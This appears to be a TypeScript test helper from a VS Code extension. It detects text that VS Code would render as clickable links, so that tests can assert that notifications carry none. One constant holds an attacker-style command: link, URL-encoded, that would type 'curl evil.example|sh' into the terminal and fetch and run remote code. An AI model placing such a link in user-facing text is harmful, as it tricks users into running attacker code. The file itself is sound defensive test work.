// What a renderer would make clickable, to assert that shown text holds none of it.
//  - VS Code's own "linked text" (vs/base/common/linkedText.ts), which notifications, dialogs and
//    quick input messages run: `[label](https://…|command:…|file:…)`.
//  - Markdown (tooltips, hovers): checked by rendering with marked (see tooltip.test.ts).

/** The pattern of VS Code 1.100's parseLinkedText, verbatim. */
export const VSCODE_LINKED_TEXT = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;

/** A `command:` link as an attacker would send it: it would type into the terminal. */
export const COMMAND_LINK =
  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';

/** Whether `text` holds anything VS Code would render as a link in a notification. */
export function hasLinkedText(text: string): boolean {
  return VSCODE_LINKED_TEXT.test(text);
}
